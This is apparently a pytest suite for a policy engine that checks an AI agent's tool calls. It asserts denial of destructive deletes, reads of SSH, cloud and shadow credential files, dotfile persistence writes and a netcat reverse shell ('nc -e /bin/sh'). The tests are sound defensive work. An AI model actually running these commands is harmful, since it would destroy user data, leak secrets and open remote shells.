"""The policy engine: tools, paths, modes, malformed input, corpora, CLI and `bench policy`."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from llmos_tui.errors import UsageError
from llmos_tui.execution.policy.bench import run_bench_policy
from llmos_tui.execution.policy.engine import PolicyDecision, PolicyEngine, default_engine

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO / "tests" / "data" / "policy-corpus.json"


@pytest.fixture
def cwd(tmp_path: Path) -> Path:
    work = tmp_path / "project"
    work.mkdir()
    return work.resolve()


@pytest.fixture
def engine() -> PolicyEngine:
    return PolicyEngine()


def bash(engine: PolicyEngine, command: str, cwd: Path, **kw) -> PolicyDecision:
    return engine.check("Bash", {"command": command}, cwd, **kw)


# ---- the decision record ------------------------------------------------------------------
def test_decision_shape(engine: PolicyEngine, cwd: Path) -> None:
    d = bash(engine, "ls -la", cwd)
    assert d.decision == "allow" and d.allowed
    assert d.to_dict() == {"decision": "allow", "reason": d.reason, "rule": d.rule}
    denied = bash(engine, "rm -rf ~", cwd)
    assert denied.decision == "deny" and not denied.allowed
    assert denied.rule == "shell.recursive_delete_outside_cwd"
    assert "home directory" in denied.reason


# ---- corpora -------------------------------------------------------------------------------
def _assert_perfect(report: dict) -> None:
    assert report["missed"] == [], json.dumps(report["missed"][:5], indent=1)
    assert report["blocked"] == report["block_cases"]
    assert report["false_blocks"] == 0
    assert report["total"] == report["block_cases"] + report["allow_cases"]


def test_dev_corpus_is_perfect(dev_data: Path) -> None:
    report = run_bench_policy(dev_data / "policy-dev.json")
    assert report["total"] >= 20
    _assert_perfect(report)


@pytest.mark.slow
def test_own_corpus_is_perfect_and_covers_every_class() -> None:
    cases = json.loads(CORPUS.read_text())
    assert len(cases) >= 150
    assert sum(c["expect"] == "allow" for c in cases) >= 150
    report = run_bench_policy(CORPUS)
    _assert_perfect(report)


@pytest.mark.slow
def test_corpus_rules_cover_every_class(engine: PolicyEngine, cwd: Path) -> None:
    """Each attack class of the issue is caught by its own rule, not by accident."""
    cases = json.loads(CORPUS.read_text())
    home = os.path.expanduser("~")
    from llmos_tui.execution.policy.bench import substitute

    rules = set()
    for case in cases:
        if case["expect"] == "block":
            rules.add(
                engine.check(
                    case["tool"], substitute(case["input"], str(cwd), home), cwd
                ).rule.split(".")[0]
            )
    for family in (
        "shell",
        "disk",
        "system",
        "download_exec",
        "reverse_shell",
        "secrets",
        "exfil",
        "persistence",
        "privilege",
        "loader",
        "write",
        "git",
        "exec",
        "network",
        "input",
        "tool",
    ):
        assert family in rules, family


def test_bench_counts_ask_as_blocked_and_lists_misses(tmp_path: Path) -> None:
    corpus = tmp_path / "c.json"
    corpus.write_text(
        json.dumps(
            [
                {"tool": "Bash", "input": {"command": "ls"}, "expect": "block"},
                {"tool": "Bash", "input": {"command": "rm -rf {{home}}"}, "expect": "allow"},
                {
                    "tool": "Write",
                    "input": {"file_path": "{{cwd}}/ok.txt", "content": "x"},
                    "expect": "allow",
                },
                {"tool": "Read", "input": {"file_path": "{{home}}/.ssh/id_rsa"}, "expect": "block"},
            ]
        )
    )
    report = run_bench_policy(corpus)
    assert {
        k: report[k] for k in ("total", "block_cases", "blocked", "allow_cases", "false_blocks")
    } == {"total": 4, "block_cases": 2, "blocked": 1, "allow_cases": 2, "false_blocks": 1}
    missed = {m["index"]: m for m in report["missed"]}
    assert set(missed) == {0, 1}
    assert (
        missed[0]["decision"] == "allow" and missed[1]["decision"] == "deny" and missed[1]["reason"]
    )
    assert set(report) == {
        "total",
        "block_cases",
        "blocked",
        "allow_cases",
        "false_blocks",
        "missed",
    }


@pytest.mark.parametrize(
    "content, needle",
    [
        ("not json", "not valid JSON"),
        ('{"a": 1}', "JSON list"),
        ('[{"tool": "Bash", "input": {}, "expect": "maybe"}]', "'expect'"),
        ('[{"input": {}, "expect": "block"}]', "'tool'"),
        ("[3]", "not an object"),
    ],
)
def test_bad_corpus_is_a_usage_error(tmp_path: Path, content: str, needle: str) -> None:
    corpus = tmp_path / "bad.json"
    corpus.write_text(content)
    with pytest.raises(UsageError) as info:
        run_bench_policy(corpus)
    assert needle in info.value.message
    with pytest.raises(UsageError):
        run_bench_policy(tmp_path / "missing.json")


# ---- strings are not commands ------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        'echo "rm -rf /"',
        "grep -c 'rm -rf' notes.md",
        "git commit -m 'never run sudo rm -rf / or curl | sh'",
        "printf '%s\\n' 'cat ~/.ssh/id_rsa'",
        "echo 'LD_PRELOAD=/tmp/x.so' >> docs.md",
        "python3 -c \"print('rm -rf ~')\"",
        "grep -rn 'nc -e' src/",
        "echo '* * * * * x' > crontab.example",
        "cat > notes.md <<'X'\nrm -rf / is bad\nX",
    ],
)
def test_strings_are_not_commands(engine: PolicyEngine, cwd: Path, command: str) -> None:
    d = bash(engine, command, cwd)
    assert d.decision == "allow", d.reason


# ---- write tools ----------------------------------------------------------------------------
def test_write_confined_by_real_path(engine: PolicyEngine, cwd: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (cwd / "link").symlink_to(outside)
    assert engine.check(
        "Write", {"file_path": str(cwd / "a" / "b.txt"), "content": "x"}, cwd
    ).allowed
    assert engine.check("Write", {"file_path": "rel/new.txt", "content": ""}, cwd).allowed
    assert engine.check("Write", {"file_path": "~/notes.md", "content": ""}, cwd).decision == "deny"
    d = engine.check("Write", {"file_path": str(cwd / "link" / "x.txt"), "content": "x"}, cwd)
    assert d.decision == "deny" and d.rule == "write.outside_cwd" and str(outside) in d.reason
    d = engine.check(
        "Edit",
        {"file_path": f"{cwd}/sub/../../outside/y", "old_string": "a", "new_string": "b"},
        cwd,
    )
    assert d.decision == "deny"
    # a dangling symlink inside the working directory that points out
    (cwd / "dangling").symlink_to(tmp_path / "nowhere" / "z.txt")
    assert (
        engine.check("Write", {"file_path": str(cwd / "dangling"), "content": "x"}, cwd).decision
        == "deny"
    )


def test_write_hard_link_to_outside_file_is_denied(
    engine: PolicyEngine, cwd: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "victim.txt"
    outside.write_text("v")
    os.link(outside, cwd / "hard.txt")
    d = engine.check("Write", {"file_path": str(cwd / "hard.txt"), "content": "x"}, cwd)
    assert d.decision == "deny" and d.rule == "write.hardlink"
    assert bash(engine, "echo x >> hard.txt", cwd).decision == "deny"


def test_workspace_state_is_not_writable(tmp_path: Path) -> None:
    from llmos_tui.config import LLMOSConfig
    from llmos_tui.workspace import Workspace

    ws = Workspace(tmp_path / "ws")
    (ws.root / "state").mkdir(parents=True)
    (ws.root / "observability").mkdir()
    engine = default_engine(LLMOSConfig(), ws)
    for path in (
        ws.root / "state" / "sentience.json",
        ws.root / "config.yaml",
        ws.root / "observability" / "events.jsonl",
    ):
        d = engine.check("Write", {"file_path": str(path), "content": "{}"}, ws.root)
        assert d.decision == "deny" and d.rule == "write.protected_workspace_state", path
    assert engine.check(
        "Write", {"file_path": str(ws.root / "projects" / "p" / "x.md"), "content": "x"}, ws.root
    ).allowed
    for command in (
        "rm -rf state",
        "echo {} > config.yaml",
        "rm -rf .",
        "mv observability old",
        "sed -i s/a/b/ state/economy.json",
    ):
        d = bash(engine, command, ws.root)
        assert d.decision == "deny", command
    # from a project inside the workspace, the state is outside the working directory anyway
    proj = ws.root / "projects" / "p"
    proj.mkdir(parents=True)
    assert bash(engine, "rm -rf ../../state", proj).decision == "deny"


def test_home_as_working_directory_still_protects_dotfiles(engine: PolicyEngine) -> None:
    home = Path(os.path.expanduser("~")).resolve()
    assert engine.check(
        "Write", {"file_path": str(home / "notes.txt"), "content": "x"}, home
    ).allowed
    for target in (
        ".bashrc",
        ".ssh/authorized_keys",
        ".config/autostart/x.desktop",
        ".gitconfig",
        ".local/bin/ls",
    ):
        d = engine.check("Write", {"file_path": str(home / target), "content": "x"}, home)
        assert d.decision == "deny", target
    assert bash(engine, "rm -rf .", home).decision == "deny"


def test_system_working_directory_allows_no_writes(engine: PolicyEngine) -> None:
    d = engine.check("Write", {"file_path": "/etc/newfile", "content": "x"}, "/etc")
    assert d.decision == "deny" and d.rule == "write.system_cwd"
    assert bash(engine, "touch x", "/").decision == "deny"


# ---- read tools -----------------------------------------------------------------------------
def test_reads(engine: PolicyEngine, cwd: Path, tmp_path: Path) -> None:
    home = os.path.expanduser("~")
    assert engine.check("Read", {"file_path": str(cwd / "data.csv")}, cwd).allowed
    assert engine.check("Read", {"file_path": "/usr/include/stdio.h"}, cwd).allowed
    for secret in (
        f"{home}/.ssh/id_rsa",
        f"{home}/.aws/credentials",
        "/etc/shadow",
        f"{home}/.netrc",
        f"{home}/.kube/config",
        f"{home}/.docker/config.json",
        f"{home}/.config/gcloud/x.json",
        f"{home}/.azure/t.json",
        f"{home}/.gnupg/pubring.kbx",
        str(tmp_path / ".env"),
        "/proc/1/environ",
    ):
        d = engine.check("Read", {"file_path": secret}, cwd)
        assert d.decision == "deny" and d.rule == "secrets.read", secret
    # a symlink in the working directory that points at a secret
    (cwd / "innocent.txt").symlink_to(f"{home}/.ssh/id_rsa")
    assert engine.check("Read", {"file_path": str(cwd / "innocent.txt")}, cwd).decision == "deny"
    assert bash(engine, "cat innocent.txt", cwd).decision == "deny"
    # .env inside the working directory is the project's own
    assert engine.check("Read", {"file_path": str(cwd / ".env")}, cwd).allowed
    assert engine.check("Grep", {"pattern": "x", "path": home}, cwd).decision == "deny"
    assert engine.check("Grep", {"pattern": "x", "path": "/usr/include"}, cwd).allowed
    assert engine.check("Glob", {"pattern": "**/*.py", "path": str(cwd)}, cwd).allowed
    assert engine.check("Glob", {"pattern": f"{home}/.ss*/*"}, cwd).decision == "deny"


# ---- network and other tools ----------------------------------------------------------------
def test_web_tools_follow_allow_network(cwd: Path) -> None:
    closed, opened = PolicyEngine(), PolicyEngine(allow_network=True)
    fetch = {"url": "https://example.org", "prompt": "x"}
    assert closed.check("WebFetch", fetch, cwd).decision == "deny"
    assert opened.check("WebFetch", fetch, cwd).decision == "allow"
    assert opened.check("WebFetch", fetch, cwd, latent_mode="CAUTIOUS").decision == "ask"
    assert (
        opened.check("WebFetch", {"url": "file:///etc/passwd", "prompt": "x"}, cwd).decision
        == "deny"
    )
    assert opened.check("WebSearch", {"query": "x"}, cwd).allowed
    assert closed.check("Bash", {"command": "nc example.org 80"}, cwd).decision == "deny"
    assert opened.check("Bash", {"command": "nc example.org 80"}, cwd).decision == "allow"
    assert opened.check("Bash", {"command": "nc -e /bin/sh example.org 80"}, cwd).decision == "deny"


def test_tool_allow_list(engine: PolicyEngine, cwd: Path) -> None:
    assert engine.check("TodoWrite", {"todos": []}, cwd).allowed
    assert engine.check("Task", {"prompt": "x"}, cwd).allowed
    assert engine.check("mcp__llmos__search_tools", {}, cwd).allowed
    assert engine.check("mcp__other__exec", {}, cwd).decision == "deny"
    d = engine.check("Shell", {"command": "ls"}, cwd)
    assert d.decision == "deny" and d.rule == "tool.unknown"
    assert PolicyEngine(extra_allowed_tools=["Shell"]).check("Shell", {}, cwd).allowed


# ---- latent modes -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build/",
        "git push origin main",
        "pip install requests",
        "curl -o x.json https://example.org/x.json",
        "echo x > existing.txt",
        "git reset --hard",
        "npm install",
    ],
)
def test_risky_actions_ask_in_cautious_modes(cwd: Path, command: str) -> None:
    engine = PolicyEngine(allow_network=True)
    (cwd / "existing.txt").write_text("old")
    assert bash(engine, command, cwd).decision == "allow"
    for mode in ("CAUTIOUS", "RECOVERY", "cautious"):
        d = bash(engine, command, cwd, latent_mode=mode)
        assert d.decision == "ask", (command, mode)
        assert "cautious" in d.reason
    assert bash(engine, command, cwd, latent_mode="CURIOUS").decision == "allow"
    assert bash(engine, "ls", cwd, latent_mode="CAUTIOUS").decision == "allow"
    assert bash(engine, "rm -rf ~", cwd, latent_mode="CAUTIOUS").decision == "deny"


def test_overwrite_is_risky_for_write_tool(engine: PolicyEngine, cwd: Path) -> None:
    (cwd / "a.txt").write_text("x")
    assert (
        engine.check(
            "Write", {"file_path": str(cwd / "a.txt"), "content": "y"}, cwd, latent_mode="RECOVERY"
        ).decision
        == "ask"
    )
    assert engine.check(
        "Write", {"file_path": str(cwd / "new.txt"), "content": "y"}, cwd, latent_mode="RECOVERY"
    ).allowed


# ---- fail closed ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "tool, tool_input, rule",
    [
        ("Bash", {}, "input.missing_key"),
        ("Bash", {"command": None}, "input.wrong_type"),
        ("Bash", {"command": "x" * 100_001}, "input.too_large"),
        ("Bash", {"command": "ls\x00"}, "input.nul_byte"),
        ("Bash", {"command": "   "}, "input.malformed"),
        ("Bash", "ls", "input.malformed"),
        ("Bash", {"command": "ls", "run_in_background": "yes"}, "input.malformed"),
        ("Write", {"file_path": "/x", "content": 3}, "input.wrong_type"),
        (
            "MultiEdit",
            {"file_path": "x", "edits": [{"old_string": 1, "new_string": "a"}]},
            "input.wrong_type",
        ),
        ("Read", {"file_path": "a", "offset": "1"}, "input.malformed"),
        ("Grep", {"pattern": "a", "-i": "yes"}, "input.malformed"),
        (None, {}, "input.malformed"),
        ("Bash", {"command": "echo 'open"}, "shell.parse_error"),
        ("Bash", {"command": "if then fi"}, "shell.parse_error"),
    ],
)
def test_malformed_input_is_denied_with_a_reason(
    engine: PolicyEngine, cwd: Path, tool, tool_input, rule
) -> None:
    d = engine.check(tool, tool_input, cwd)
    assert d.decision == "deny" and d.rule == rule and d.reason


def test_bad_cwd_is_denied(engine: PolicyEngine) -> None:
    for bad in (None, "", 42, "/tmp/\x00x"):
        d = engine.check("Bash", {"command": "ls"}, bad)
        assert d.decision == "deny" and d.rule == "input.cwd"


def test_timeout_is_deny(cwd: Path) -> None:
    engine = PolicyEngine(timeout_s=0.0)
    long = "; ".join(f"echo {i} > f{i}.txt" for i in range(200))
    d = engine.check("Bash", {"command": long}, cwd)
    assert d.decision == "deny" and d.rule == "policy.timeout"


def test_internal_error_is_deny(
    engine: PolicyEngine, cwd: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from llmos_tui.execution.policy import shell

    def boom(self, script, **kw):
        raise KeyError("surprise")

    monkeypatch.setattr(shell.Analyzer, "analyze", boom)
    d = bash(engine, "ls", cwd)
    assert d.decision == "deny" and d.rule == "policy.error" and "KeyError" in d.reason


def test_deeply_nested_input_is_denied_not_raised(engine: PolicyEngine, cwd: Path) -> None:
    nested = "bash -c " + '"$(' * 200 + "ls" + ')"' * 200
    assert engine.check("Bash", {"command": nested}, cwd).decision == "deny"
    command = "echo " + "$(" * 60 + "id" + ")" * 60
    assert engine.check("Bash", {"command": command}, cwd).decision in ("allow", "deny")
    sh = "sh -c 'sh -c \"sh -c id\"'"
    assert engine.check("Bash", {"command": sh}, cwd).allowed


# ---- CLI -------------------------------------------------------------------------------------
def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    code = (
        "import typer, sys\nfrom llmos_tui.cli.policy import policy_app\n"
        "app = typer.Typer()\napp.add_typer(policy_app, name='policy')\n@app.callback()\ndef main(): pass\napp()"
    )
    return subprocess.run(
        [sys.executable, "-c", code, "policy", "check", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )


@pytest.mark.slow
def test_cli_check(cwd: Path) -> None:
    proc = _cli("--tool", "Bash", "--input", '{"command": "ls"}', "--json", cwd=cwd)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == {
        "decision": "allow",
        "reason": "the command passed every rule",
    }
    proc = _cli(
        "--tool", "Bash", "--input", '{"command": "rm -rf ~"}', "--json", "--cwd", str(cwd), cwd=cwd
    )
    assert proc.returncode == 3
    out = json.loads(proc.stdout)
    assert out["decision"] == "deny" and set(out) == {"decision", "reason"}
    proc = _cli(
        "--tool",
        "Bash",
        "--input",
        '{"command": "rm -rf build"}',
        "--latent-mode",
        "CAUTIOUS",
        cwd=cwd,
    )
    assert proc.returncode == 3 and proc.stdout.startswith("ask:")
    proc = _cli("--tool", "Bash", "--input", "{not json", "--json", cwd=cwd)
    assert proc.returncode == 2 and proc.stdout == "" and "not valid JSON" in proc.stderr
    proc = _cli("--tool", "Bash", "--input", "{}", "--cwd", str(cwd / "missing"), cwd=cwd)
    assert proc.returncode == 2 and "not a directory" in proc.stderr


def test_loading_the_shell_analysis_is_not_part_of_a_checks_time(
    tmp_path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first Bash check of a process loads the grammar and the program table before its
    deadline starts: a slow load (a loaded machine) does not refuse the command as a timeout,
    while a slow analysis still does."""
    import time as _time

    from llmos_tui.execution.policy import engine as policy_engine
    from llmos_tui.execution.policy.engine import PolicyEngine

    loads = []
    monkeypatch.setattr(policy_engine, "_SHELL_READY", False)
    real = policy_engine._load_shell_analysis

    def slow_load() -> None:
        loads.append(1)
        _time.sleep(0.3)
        real()

    monkeypatch.setattr(policy_engine, "_load_shell_analysis", slow_load)
    eng = PolicyEngine(timeout_s=0.2)
    decision = eng.check("Bash", {"command": "ls"}, str(tmp_path))
    assert loads and decision.decision == "allow", decision
    assert (
        eng.check("Write", {"file_path": "a.txt", "content": "x"}, str(tmp_path)).decision
        == "allow"
    )
    assert len(loads) == 1  # only Bash loads it
